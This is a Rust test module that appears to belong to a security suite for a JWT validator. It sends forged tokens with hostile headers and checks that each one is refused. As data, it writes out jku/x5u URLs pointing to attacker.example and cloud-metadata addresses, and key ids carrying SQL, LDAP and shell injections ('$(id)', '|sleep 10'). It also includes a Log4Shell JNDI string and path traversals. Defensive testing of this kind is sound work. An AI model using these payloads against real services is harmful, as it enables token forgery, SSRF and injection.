//! The other header members: embedded keys, malformed key ids, unknown extensions.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use kinde_perms::TokenError;
use kinde_perms_testkit::{Hmac, Issuer, TokenBuilder};
use serde_json::{Value, json};

use crate::attack::{Attack, Case, accepted, refused};
use crate::der;
use crate::forge::encode;
use crate::stage::{ATTACKER, Asked, Setup, Stage};

pub(crate) fn attacks() -> Vec<Attack> {
    [embedded(), located(), ids(), floods(), critical(), types()].into_iter().flatten().collect()
}

/// A token signed by the attacker's key, under its own id and under that of the issuer's key.
fn by_attacker(stage: &Stage, what: &str, name: &str, value: &Value) -> Vec<Case> {
    let token = stage.token().key(&ATTACKER).header(name, value.clone());
    vec![
        Case::refused(format!("{what}, own kid"), token.sign(), TokenError::UnknownKey),
        Case::refused(
            format!("{what}, the issuer's kid"),
            token.kid(&stage.kid()).sign(),
            TokenError::InvalidSignature,
        ),
    ]
}

fn embedded() -> Vec<Attack> {
    vec![
        refused("hdr-01").tokens(|stage| by_attacker(stage, "jwk", "jwk", &ATTACKER.public_jwk())),
        refused("hdr-02").tokens(|stage| {
            let jwk = ATTACKER.with_kid(&stage.kid()).public_jwk();
            by_attacker(stage, "jwk with the issuer's kid", "jwk", &jwk)
        }),
        refused("hdr-03").tokens(|stage| {
            let chain = json!([STANDARD.encode(der::self_signed(&ATTACKER))]);
            by_attacker(stage, "x5c", "x5c", &chain)
        }),
    ]
}

fn located() -> Vec<Attack> {
    vec![
        refused("hdr-04").scene(|| Box::pin(key_set_of_the_attacker())),
        refused("hdr-05").tokens(|stage| {
            let (url, host) = (stage.issuer.url(), stage.issuer.url().trim_start_matches("http://"));
            let locations = [
                format!("http://{host}@attacker.example/keys"),
                format!("{url}/redirect?to=http://attacker.example/keys"),
                format!("{url}/.well-known/../upload/keys.json"),
                format!("{url}/upload/keys.json"),
                format!("{url}#@attacker.example"),
                "http://attacker.example/keys".to_owned(),
                "file:///etc/keys.json".to_owned(),
                format!("data:application/json;base64,{}", encode(ATTACKER.public_jwk().to_string())),
            ];
            locations
                .iter()
                .flat_map(|location| by_attacker(stage, location, "jku", &json!(location)))
                .collect()
        }),
        refused("hdr-06").tokens(|stage| {
            let own = format!("{}/internal", stage.issuer.url());
            ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/", "http://[::1]/", &own]
                .into_iter()
                .flat_map(|location| by_attacker(stage, location, "x5u", &json!(location)))
                .collect()
        }),
        accepted("hdr-07").tokens(|stage| {
            let location = format!("{}/.well-known/jwks", stage.issuer.url());
            let token = stage.token().header("jku", location.clone()).header("x5u", location);
            vec![Case::accepted("the true location", token.sign())]
        }),
    ]
}

async fn key_set_of_the_attacker() {
    let stage = Stage::usual().await;
    let attacker = Issuer::builder().signing_key(&ATTACKER).start().await.unwrap();
    let location = json!(format!("{}/.well-known/jwks", attacker.url()));
    for name in ["jku", "x5u"] {
        for case in by_attacker(&stage, name, name, &location) {
            stage.check(&case).await;
        }
    }
    let nothing = Asked { discovery: 0, keys: 0, elsewhere: 0 };
    assert_eq!(Asked::of(&attacker), nothing, "nobody may be sent anywhere by a token");
    stage.still_well(2).await;
}

/// Key ids that mean something to a file system, a database, a directory or a shell.
const INJECTIONS: [&str; 7] = [
    "x' UNION SELECT 'k'-- ",
    "*)(uid=*",
    "|sleep 10",
    "$(id)",
    "../../../../dev/null",
    "${jndi:ldap://attacker.example/a}",
    "%2e%2e%2fkeys",
];

fn ids() -> Vec<Attack> {
    vec![
        refused("hdr-08").tokens(|stage| {
            let token = |kid: &str| stage.token().kid(kid);
            let with_file = |kid: &str, content: &[u8]| {
                let token = token(kid).hmac_with(Hmac::Sha256, content);
                Case::refused(kid, token, TokenError::AlgorithmNotAllowed)
            };
            let path = "../../../../dev/null";
            vec![
                with_file(path, b""),
                with_file("/proc/sys/kernel/randomize_va_space", b"2\n"),
                Case::refused("RS256", token(path).sign(), TokenError::UnknownKey),
            ]
        }),
        refused("hdr-09").tokens(|stage| {
            let kid = stage.kid();
            let looser = [
                kid.to_uppercase(),
                format!("{kid} "),
                format!(" {kid}"),
                format!("{kid}*"),
                kid.replace(':', ""),
            ];
            let kids = INJECTIONS.map(str::to_owned).into_iter().chain(looser);
            kids.map(|kid| Case::refused(kid.clone(), stage.token().kid(&kid).sign(), TokenError::UnknownKey))
                .collect()
        }),
        refused("hdr-15")
            .choice("refused: every token of Kinde's names its key, and DESIGN §5 requires `kid`")
            .tokens(|stage| vec![without_kid(stage)]),
        refused("hdr-16")
            .choice("refused: no key is ever tried that the token does not name")
            .on(Setup::publishing(|issuer| drop(issuer.rotate())), |stage| vec![without_kid(stage)]),
    ]
}

fn without_kid(stage: &Stage) -> Case {
    Case::refused("no kid", stage.token().without_header("kid").sign(), TokenError::MissingKeyId)
}

fn floods() -> Vec<Attack> {
    vec![refused("hdr-17").scene(|| Box::pin(flood()))]
}

/// 10 000 tokens with ids of their own, which cost the attacker nothing: the signature is not even tried.
async fn flood() {
    let stage = Stage::usual().await;
    for number in 0..10_000 {
        let token = stage.token().kid(&format!("kid-{number}")).sign_by("RS256", |_| vec![1; 256]);
        let error = stage.validator.verify(&token).await.err();
        assert_eq!(error, Some(TokenError::UnknownKey.into()), "token {number}");
    }
    stage.still_well(2).await;
}

fn critical() -> Vec<Attack> {
    vec![
        refused("hdr-19").tokens(|stage| vec![crit(stage, json!(["exp2"]), &[("exp2", json!(1))])]),
        refused("hdr-20").tokens(|stage| vec![crit(stage, json!([]), &[])]),
        refused("hdr-21").tokens(|stage| {
            [json!("exp"), json!([1]), json!(null), json!({}), json!(false)]
                .map(|list| crit(stage, list, &[]))
                .into()
        }),
        refused("hdr-22").tokens(|stage| {
            [json!(["alg"]), json!(["kid"]), json!(["typ"])].map(|list| crit(stage, list, &[])).into()
        }),
        refused("hdr-23").tokens(|stage| vec![crit(stage, json!(["foo"]), &[])]),
        refused("hdr-24").tokens(|stage| vec![crit(stage, json!(["b64", "b64"]), &[("b64", json!(true))])]),
        refused("hdr-25").tokens(|stage| {
            let token = stage.token().header("b64", false).header("crit", json!(["b64"]));
            let twice = encode(crate::forge::payload(stage));
            vec![
                Case::refused(
                    "a payload of JSON",
                    token.clone().with_payload_unencoded().sign(),
                    TokenError::Malformed,
                ),
                Case::refused(
                    "a payload that is base64url by chance",
                    token.with_raw_payload(twice).with_payload_unencoded().sign(),
                    TokenError::UnsupportedHeader("crit"),
                ),
            ]
        }),
        refused("hdr-26").tokens(|stage| {
            let case = |value: Value| {
                let token = stage.token().header("b64", value.clone()).sign();
                Case::refused(value.to_string(), token, TokenError::UnsupportedHeader("b64"))
            };
            [json!(false), json!("false"), json!(0), json!(null)].map(case).into()
        }),
    ]
}

fn crit(stage: &Stage, list: Value, members: &[(&str, Value)]) -> Case {
    let what = list.to_string();
    let token = stage.token().header("crit", list);
    let with = |token: TokenBuilder, (name, value): &(&str, Value)| token.header(name, value.clone());
    let token = members.iter().fold(token, with);
    Case::refused(what, token.sign(), TokenError::UnsupportedHeader("crit"))
}

fn types() -> Vec<Attack> {
    vec![
        refused("hdr-27")
            .tokens(|stage| {
                let id_token =
                    |token: TokenBuilder| token.claim("nonce", "n").claim("at_hash", "h").audience("client");
                vec![
                    Case::refused("typ JWT", id_token(stage.token()).sign(), TokenError::IdToken),
                    Case::refused(
                        "no typ",
                        id_token(stage.token()).without_header("typ").sign(),
                        TokenError::IdToken,
                    ),
                ]
            })
            .choice("by its claims: Kinde gives ID tokens and access tokens the same `typ`"),
        refused("hdr-28").tokens(|stage| {
            let names = [
                "dpop+jwt",
                "logout+jwt",
                "secevent+jwt",
                "oauth-authz-req+jwt",
                "JOSE+JSON",
                "JOSE",
                "",
                "application/",
                "at+jwt ",
                "id_token+jwt",
                "application/application/jwt",
                "JWS",
            ];
            names.map(|typ| with_typ(stage, json!(typ))).into()
        }),
        refused("hdr-30").tokens(|stage| {
            [json!(1), json!([]), json!(null), json!(["JWT"])].map(|typ| with_typ(stage, typ)).into()
        }),
        refused("hdr-31").tokens(|stage| {
            let nested = stage.token().sign();
            let token = stage.token().with_raw_payload(nested).header("cty", "JWT").sign();
            vec![Case::refused("cty JWT", token, TokenError::UnsupportedHeader("cty"))]
        }),
    ]
}

fn with_typ(stage: &Stage, typ: Value) -> Case {
    let what = typ.to_string();
    Case::refused(what, stage.token().header("typ", typ).sign(), TokenError::UnsupportedHeader("typ"))
}
